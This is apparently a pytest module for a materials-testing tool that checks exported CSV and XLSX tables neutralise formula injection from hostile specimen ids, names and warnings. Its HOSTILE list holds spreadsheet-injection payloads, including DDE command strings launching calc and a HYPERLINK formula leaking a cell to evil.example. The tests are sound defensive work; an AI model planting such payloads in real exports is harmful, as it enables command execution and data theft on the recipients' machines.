"""Text from inputs reaches CSV and XLSX as text, never as a formula (docs/contract.md section 11).

The oracle is the file format itself, read without matid: the sheet XML inside the
.xlsx (a formula is an ``<f>`` element, a string cell has ``t="s"`` or
``t="inlineStr"``, a number has neither) and the CSV cells as the csv module reads
them (a text cell starting with ``=``, ``+``, ``-``, ``@``, tab or CR is what a
spreadsheet runs, OWASP's CSV-injection guidance).
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from matid.app import pipeline
from matid.app.compare import write_summary
from matid.app.outcome import StudyOutcome
from matid.io.cells import FORMULA_LEADS, cell, text_cell
from matid.io.results import csv_text, stiffness_csv, table_rows
from matid.io.study import load_study
from matid.io.xlsx import stiffness_xlsx
from matid.model.results import Estimate
from matid.model.results import TestFit as Fit
from tests.app.test_pipeline import DEMO

#: What a hostile lab file or study.toml can put into a text cell.
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]
NEGATIVE = -2.5e-4  # a negative stiffness from a fake fitter: must stay a number in every table


def is_formula_leading(text: str) -> bool:
    """A CSV text cell a spreadsheet would run: starts with a formula lead and is not a plain number."""
    if not text.startswith(FORMULA_LEADS):
        return False
    try:
        float(text)
    except ValueError:
        return True
    return False


def hostile_result(tmp_path: Path, monkeypatch, specimen_id: str, warning: str):
    """A torsion study whose specimen id is ``specimen_id``; the fit gives E_t < 0 with ``warning``."""
    folder = tmp_path / "study"
    folder.mkdir()
    shutil.copy(DEMO / "torsion_T1_L60.csv", folder / "tor.csv")
    sid = json.dumps(specimen_id)  # a JSON string is a TOML basic string
    toml = (
        f'[study]\nname = "=1+1"\n\n[[specimen]]\nid = {sid}\nouter_diameter = "2 mm"\n\n'
        f'[[test]]\nkind = "torsion"\nspecimen = {sid}\nfile = "tor.csv"\nlength = "60 mm"\nnote = "@note"\n'
    )
    (folder / "study.toml").write_text(toml, encoding="utf-8")

    def fitter(measurements, *, specimen, fixed, known):
        est = Estimate("E_t", NEGATIVE, 1e-6, (NEGATIVE - 2e-6, NEGATIVE + 2e-6), 25, "-linear", (warning,))
        return Fit("torsion", specimen.id, tuple(m.test for m in measurements), (est,), (), "x", "y",
                   warnings=(warning,))  # fmt: skip

    monkeypatch.setitem(pipeline.FITTERS, "torsion", fitter)
    return pipeline.run_study(load_study(folder))


def sheet_cells(data: bytes) -> list[tuple[str, str | None, bool]]:
    """(sheet file, cell type attribute, has a formula) of every cell of every sheet, from the XML itself."""
    cells = []
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = book.read(name).decode("utf-8")
                for match in re.finditer(r"<c\b([^>]*?)(/>|>(.*?)</c>)", xml, re.S):
                    kind = re.search(r'\bt="(\w+)"', match.group(1))
                    cells.append((name, kind.group(1) if kind else None, "<f" in (match.group(3) or "")))
    return cells


def csv_text_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


@pytest.mark.parametrize("specimen_id", [h for h in HOSTILE if not h[0].isspace()])
def test_hostile_ids_and_warnings_are_text_in_stiffness_csv_and_xlsx(tmp_path, monkeypatch, specimen_id):
    result = hostile_result(tmp_path, monkeypatch, specimen_id, warning="\t=2+3")
    table = stiffness_csv(result)
    assert [c for c in csv_text_cells(table) if is_formula_leading(c)] == []
    row = next(csv.DictReader(io.StringIO(table)))
    assert row["specimen"] == "'" + specimen_id if specimen_id[0] in "=+-@" else specimen_id
    # E_t < 0 reaches zero: its status withholds the number (contract section 10)
    assert row["status"] == "not_identifiable" and row["value"] == ""
    book = stiffness_xlsx(result)
    cells = sheet_cells(book)
    assert cells and not any(formula for _, _, formula in cells)
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(book)).read("xl/worksheets/sheet1.xml")
    import openpyxl

    sheet = openpyxl.load_workbook(io.BytesIO(book))["stiffness"]
    values = {sheet.cell(1, c).value: sheet.cell(2, c) for c in range(1, sheet.max_column + 1)}
    assert values["specimen"].data_type == "s" and values["specimen"].value.lstrip("'") == specimen_id
    assert values["value"].value is None and values["status"].value == "not_identifiable"


def test_a_negative_number_stays_a_number_in_csv_and_xlsx_cells():
    # a number is never prefixed like text, whatever its sign (the status decides whether it is shown)
    assert cell(NEGATIVE) == NEGATIVE and cell("-T1") == "'-T1"
    text = csv_text([{"specimen": "-T1", "value": NEGATIVE}], ["specimen", "value"])
    assert list(csv.reader(io.StringIO(text)))[1] == ["'-T1", repr(NEGATIVE)]


def test_hostile_names_are_text_in_summary_csv_and_xlsx(tmp_path, monkeypatch):
    result = hostile_result(tmp_path, monkeypatch, "=cmd|' /C calc'!A0", warning="@SUM(1)")
    outcomes = [
        StudyOutcome(source=h, name=h, code=1, rows=table_rows(result), warnings=[h], error=h)
        for h in HOSTILE
    ]
    paths = write_summary(outcomes, tmp_path / "out")
    summary_csv = (tmp_path / "out" / "summary.csv").read_bytes().decode("utf-8")
    assert "\r" not in summary_csv  # a lone CR, unquoted by the csv module, ends a row in a spreadsheet
    assert [c for c in csv_text_cells(summary_csv) if is_formula_leading(c)] == []
    cells = sheet_cells((tmp_path / "out" / "summary.xlsx").read_bytes())
    assert len(cells) > 10 and not any(formula for _, _, formula in cells)
    assert {p.name for p in paths} >= {"summary.csv", "summary.xlsx"}


def test_control_characters_in_a_warning_are_escaped_not_fatal(tmp_path, monkeypatch):
    # openpyxl refuses most C0 characters (IllegalCharacterError: exit 3 after the whole fit)
    result = hostile_result(tmp_path, monkeypatch, "T1", warning="bell \x07 and escape \x1b[31m red")
    book = stiffness_xlsx(result)
    import openpyxl

    warnings = openpyxl.load_workbook(io.BytesIO(book))["warnings"]
    texts = [c.value for row in warnings.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert any("\\x07" in t and "\\x1b[31m" in t for t in texts)
    assert not any(ch in stiffness_csv(result) for ch in "\x07\x1b")


@given(st.text())
def test_a_text_cell_never_leads_with_a_formula_character(text):
    written = text_cell(text)
    assert not written.startswith(FORMULA_LEADS)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", written)  # CR too: see matid.io.cells
    if not text.startswith(FORMULA_LEADS) and text == text_cell(text):
        assert written == text  # ordinary text is written as it is
